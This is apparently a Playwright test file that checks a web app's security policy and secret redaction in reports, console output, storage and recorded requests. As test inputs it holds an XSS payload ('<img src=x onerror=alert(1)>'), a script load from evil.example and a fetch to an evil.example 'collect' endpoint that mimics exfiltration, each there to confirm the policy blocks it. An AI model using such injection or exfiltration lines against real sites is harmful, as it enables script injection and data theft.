/** What the security policy blocks and what leaves the browser: reports without secrets, addresses without tokens. */
import { readFile } from 'node:fs/promises';
import type { APIRequestContext } from '@playwright/test';
import { keptInBrowser, reportsFromNowOn } from './support/browser-traces.ts';
import { card, fillCard, goodPassword, goToCardStep } from './support/sign-up.ts';
import { expect, openAs, people, provokingPage, test } from './support/test.ts';

test.describe('the security policy', () => {
  test.use({ expectedErrors: /Content Security Policy|Trusted/ });

  test('blocks inline scripts, eval, markup and foreign hosts, and reports them', async ({ page, request }) => {
    await openAs(page, people.june, provokingPage);
    await expect(page.getByRole('heading', { name: 'Page not found' })).toBeVisible();
    const outcomes = await page.evaluate(async () => {
      // Code evaluated through DevTools is exempt, but what it starts isn't.
      await new Promise((resume) => setTimeout(resume));
      const attempt = async (work: () => unknown) => {
        try {
          return String(await work());
        } catch (error) {
          return error instanceof Error ? error.name : 'refused';
        }
      };
      const ranInline = () => {
        const script = document.createElement('div');
        script.setAttribute('onclick', 'globalThis.inlineRan = true');
        script.click();
        return Reflect.get(globalThis, 'inlineRan') ?? 'refused';
      };
      return {
        inline: await attempt(ranInline),
        eval: await attempt(() => Reflect.get(globalThis, 'eval')('1')),
        markup: await attempt(() => {
          document.createElement('div').innerHTML = '<img src=x onerror=alert(1)>';
        }),
        script: await attempt(() => {
          document.createElement('script').src = 'https://evil.example/evil.js';
        }),
        worker: await attempt(() => new Worker('data:text/javascript,1')),
        call: await attempt(() => fetch('https://evil.example/collect')),
        style: await attempt(() => {
          document.createElement('style').innerHTML = 'b { color: red }';
          return 'allowed';
        }),
      };
    });
    expect(outcomes).toEqual({
      inline: 'TypeError',
      eval: 'EvalError',
      markup: 'TypeError',
      script: 'TypeError',
      worker: 'TypeError',
      call: 'TypeError',
      style: 'allowed',
    });
    const reports = async () => (await request.get('/sandbox/api/reports?kind=security')).text();
    await expect.poll(reports).toContain('https://evil.example/collect');
  });
});

test.describe('a page error', () => {
  test.use({ expectedErrors: /A failure of rendering/ });

  test('is shown and reported to monitoring, without its secrets', async ({ page, request }) => {
    const sent = await reportsFromNowOn(request);
    await page.addInitScript((number) => {
      const fail = () => {
        throw new Error(`A failure of rendering ${number}`);
      };
      Object.defineProperty(Date.prototype, 'getFullYear', { get: fail });
    }, card.number);
    await openAs(page, people.june, '/orders');
    await expect(page.getByRole('heading', { name: 'Something went wrong' })).toBeVisible();
    // Reports arrive in parts.
    await expect.poll(sent).toContain('A failure of rendering [redacted]');
    await expect.poll(sent).toContain('"tags":{"origin":"render","page":"/app/orders"}');
  });
});

test('a session’s token and card appear in no report, console message, storage or address', async ({
  browser,
  baseURL,
  request,
}, info) => {
  const harPath = info.outputPath('session.har');
  const context = await browser.newContext({ baseURL, recordHar: { path: harPath, mode: 'full', content: 'embed' } });
  const said: string[] = [];
  context.on('console', (message) => said.push(message.text()));
  const sent = await reportsFromNowOn(request);
  const page = await context.newPage();
  await page.addInitScript(watchAllAndSignUp);

  await goToCardStep(page);
  await fillCard(page);
  const stored = await keptInBrowser(page);
  await page.keyboard.press('Enter');
  await expect(page).toHaveURL('/app/orders');
  const token = await launchToken(request, baseURL);
  await page.goto(`/app/orders?token=${token}&sort=-total`);
  await page.getByRole('button', { name: 'Switch', exact: true }).click();
  await expect(page.getByRole('button', { name: `Account of ${people.nora.name}` })).toBeVisible();
  await expect(page.getByRole('grid', { name: 'Orders' })).toBeVisible();
  await expect(page).toHaveURL('/app/orders?sort=-total');
  await page.evaluate(
    // Like a throw, but without the browser's own console message.
    (message) => window.dispatchEvent(new ErrorEvent('error', { error: new Error(message) })),
    `A failure of card ${card.number} at /app/?token=${token} with Authorization: Bearer ${token}`,
  );
  await expect.poll(sent).toContain('A failure of card [redacted] at');
  await expect.poll(sent).toContain('replay_recording');
  stored.push(...(await keptInBrowser(page)));
  await page.goto('about:blank');
  await expect.poll(sent).toContain('web-vital.lcp');
  await context.close();

  const secrets = [token, token.split('.')[2] ?? '', card.number, spaced(card.number), goodPassword];
  const withSecrets = (texts: readonly string[]) =>
    texts.filter((text) => secrets.some((secret) => text.includes(secret)));
  expect(withSecrets([await sent()]), 'reports').toEqual([]);
  expect(withSecrets(said), 'console').toEqual([]);
  expect(withSecrets(stored), 'storage').toEqual([`localStorage access_token ${token}`]);
  const requests = readRequests(await readFile(harPath, 'utf8'));
  expect(withSecrets(requests), 'requests').toEqual([]);
});

const spaced = (digits: string) => digits.replaceAll(/(\d{4})(?=\d)/g, '$1 ');

/** Runs before the application: samples the session for tracing and replay, and enables sign-up. */
function watchAllAndSignUp(): void {
  window.sessionStorage.setItem('monitoring-draw', '0');
  let config: { features: { onboardingEnabled: boolean } } | undefined;
  Object.defineProperty(globalThis, 'benchfileConfig', {
    get: () => config,
    set(given) {
      config = { ...given, features: { ...given.features, onboardingEnabled: true } };
    },
  });
}

/** The token a sandbox tool launches the application with. */
async function launchToken(request: APIRequestContext, baseURL: string | undefined): Promise<string> {
  const tool = await request.get(`http://127.0.0.1:${new URL(baseURL ?? '').port}/sandbox/embed?retailer=clio`);
  const token = /[?&]token=([\w.-]+)/.exec(await tool.text())?.[1];
  if (!token) throw new Error('The tool launches without a token.');
  return token;
}

interface Har {
  log: {
    entries: {
      request: { url: string; headers: { name: string; value: string }[]; postData?: { text?: string } };
    }[];
  };
}

/**
 * The recorded requests as texts, without the parts that may hold a secret: the launch address, and backend calls'
 * token header and body.
 */
function readRequests(recording: string): string[] {
  const { log }: Har = JSON.parse(recording);
  const requests = log.entries.map(({ request }) => request);
  const isLaunch = (url: string) => /\/app\/orders\?token=/.test(url);
  expect(requests.filter(({ url }) => isLaunch(url))).toHaveLength(1);
  return requests.map(({ url, headers, postData }) => {
    const isCall = new URL(url).pathname.startsWith('/api/');
    const shown = headers.filter(({ name }) => !(isCall && name.toLowerCase() === 'authorization'));
    return JSON.stringify([isLaunch(url) ? '' : url, shown, isCall ? '' : postData?.text]);
  });
}
